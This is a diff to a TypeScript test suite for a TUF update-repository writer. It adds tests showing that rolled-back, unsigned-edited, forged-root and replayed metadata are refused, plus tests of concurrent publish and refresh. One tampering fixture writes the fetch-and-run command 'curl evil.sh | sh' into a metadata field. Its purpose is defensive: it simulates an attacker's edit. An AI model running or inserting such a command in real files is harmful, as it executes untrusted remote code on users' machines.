@@ -2,6 +2,8 @@ import { MinioObjectStore, ObjectNotFoundError, type ObjectStore } from '@lockst
 import { startS3Server, uniqueName, type S3ServerHandle } from '@lockstep/testing';
 import {
   artifactKeyFor,
+  captureTufMetadata,
+  forgeNextRoot,
   generateKeySet,
   initKeyFile,
   parseOnlineKeySet,
@@ -137,6 +139,7 @@ describe(TufRepositoryWriter.name, () => {
       '1.targets.json',
       '2.snapshot.json',
       '2.targets.json',
+      '2.timestamp.json',
       'root.json',
       'timestamp.json',
     ]);
@@ -346,6 +349,67 @@ describe(TufRepositoryWriter.name, () => {
       expect(await (await readWithTufJs(component)).getTargetInfo(`${component}-1.0.1.tar.gz`)).toBeDefined();
     });
 
+    describe('refuses to re-sign metadata the offline keys did not sign', () => {
+      const prefixOf = (component: string) => tufPrefixFor(component);
+      const twoReleases = async () => {
+        const component = uniqueName('forged');
+        for (const version of ['1.0.0', '1.0.1'])
+          await sut.publish({ store, component, artifact: Buffer.from(version), version, channel: 'stable', keys });
+        return { component, trustedRoot: await trustedRootFor(store, component) };
+      };
+      const timestampOf = (component: string) => store.get(`${prefixOf(component)}timestamp.json`);
+
+      it.each([
+        [
+          'targets put back to an older, validly signed version',
+          async (component: string) =>
+            store.put(`${prefixOf(component)}2.targets.json`, await store.get(`${prefixOf(component)}1.targets.json`)),
+          /2\.targets\.json is not the targets 2\.snapshot\.json pins/,
+        ],
+        [
+          'targets edited without its key',
+          async (component: string) => {
+            const key = `${prefixOf(component)}2.targets.json`;
+            const edited = (await store.get(key)).toString().replace('"notes": ""', '"notes": "run curl evil.sh | sh"');
+            await store.put(key, edited);
+          },
+          /2\.targets\.json is not signed by the targets key of root v1/,
+        ],
+        [
+          'a root the pinned root did not sign',
+          (component: string) => forgeNextRoot(store, component, generateKeySet()),
+          /2\.root\.json is not signed by the root before it/,
+        ],
+      ])('%s', async (_what, attack, message) => {
+        const { component, trustedRoot } = await twoReleases();
+        await attack(component);
+        const before = await timestampOf(component);
+
+        const attempt = sut.refreshOnline({ store, component, keys, trustedRoot });
+
+        await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.RepositoryUntrusted, message });
+        expect((await timestampOf(component)).equals(before)).toBe(true);
+      });
+
+      it('a whole older release set put back (a replay): refused below the versions it signed last', async () => {
+        const component = uniqueName('replay');
+        await sut.publish({ store, component, artifact: Buffer.from('a'), version: '1.0.0', channel: 'stable', keys });
+        const old = await captureTufMetadata(store, component);
+        await sut.publish({ store, component, artifact: Buffer.from('b'), version: '1.0.1', channel: 'stable', keys });
+        const signed = await sut.refreshOnline({ store, component, keys });
+        await old.restore();
+        const before = await timestampOf(component);
+
+        const attempt = sut.refreshOnline({ store, component, keys, notBefore: signed.versions });
+
+        await expect(attempt).rejects.toMatchObject({
+          code: ReleaseErrorCode.RepositoryUntrusted,
+          message: expect.stringMatching(/targets is version 1, below version 2.*older metadata was put back/),
+        });
+        expect((await timestampOf(component)).equals(before)).toBe(true);
+      });
+    });
+
     it('refuses online keys that the root does not trust, saying which file to give the control plane', async () => {
       const component = uniqueName('foreign');
       await sut.publish({ store, component, artifact: Buffer.from('x'), version: '1.0.0', channel: 'stable', keys });
@@ -357,6 +421,74 @@ describe(TufRepositoryWriter.name, () => {
         message: expect.stringMatching(/online snapshot, timestamp key/),
       });
     });
+  });
+
+  describe('publish and online refresh at the same time', () => {
+    const publishOf = (component: string, on: ObjectStore, version = '1.0.1') =>
+      sut.publish({ store: on, component, artifact: Buffer.from(version), version, channel: 'stable', keys });
+    // the checker re-signs the snapshot too, so both writers write a versioned file and timestamp.json
+    const refreshOf = (component: string, on: ObjectStore) =>
+      sut.refreshOnline({ store: on, component, keys, snapshotRenewBeforeMs: Number.POSITIVE_INFINITY });
+
+    /** Versions of every timestamp.json either writer put, in order. */
+    let written: number[] = [];
+    /**
+     * The store, recording the timestamp versions written through it; with `holdAt`, the first
+     * put of a key ending in it waits until `meanwhile` has finished: its writer is held between
+     * what it read and what it writes.
+     */
+    const watched = (holdAt?: string, meanwhile?: () => Promise<unknown>): ObjectStore => {
+      let held = false;
+      return new Proxy(store, {
+        get(target, prop, receiver) {
+          if (prop !== 'put') return Reflect.get(target, prop, receiver) as unknown;
+          return async (key: string, body: Buffer | string, contentType?: string) => {
+            if (holdAt && meanwhile && !held && key.endsWith(holdAt)) {
+              held = true;
+              await meanwhile();
+            }
+            if (key.endsWith('/timestamp.json'))
+              written.push((JSON.parse(body.toString()) as { signed: { version: number } }).signed.version);
+            return target.put(key, body, contentType);
+          };
+        },
+      });
+    };
+
+    it.each([
+      ['the refresh', 'timestamp.json', 'the publish'],
+      ['the refresh', '.snapshot.json', 'the publish'],
+      ['the publish', 'timestamp.json', 'the refresh'],
+      ['the publish', '.snapshot.json', 'the refresh'],
+      ['the publish', '.targets.json', 'the refresh'],
+    ] as const)(
+      '%s held before it writes %s while %s runs start to finish: the repository verifies with the new release',
+      async (held, file, _other) => {
+        const component = uniqueName('race');
+        await publishOf(component, store, '1.0.0');
+        written = [];
+        const [outer, other] = held === 'the refresh' ? [refreshOf, publishOf] : [publishOf, refreshOf];
+        let inner: Promise<unknown> | undefined;
+
+        const [heldOutcome] = await Promise.allSettled([
+          outer(
+            component,
+            watched(file, () => (inner = other(component, watched()))),
+          ),
+        ]);
+
+        const [innerOutcome] = await Promise.allSettled([inner]);
+        const updater = await readWithTufJs(component);
+        expect(await updater.getTargetInfo(`${component}-1.0.1.tar.gz`)).toBeDefined();
+        expect(await updater.getTargetInfo(`${component}-1.0.0.tar.gz`)).toBeDefined();
+        // the publish always succeeds; the refresh may stop as busy, but never leaves the repository behind
+        expect((held === 'the publish' ? heldOutcome : innerOutcome).status).toBe('fulfilled');
+        for (const o of [heldOutcome, innerOutcome])
+          if (o.status === 'rejected') expect(o.reason).toMatchObject({ code: ReleaseErrorCode.RepositoryBusy });
+        // the timestamp that stays is the highest version either wrote: no client sees it go back
+        expect((await sut.expiry(store, component)).timestamp.version).toBe(Math.max(...written));
+      },
+    );
   });
 
   describe('key rotation', () => {
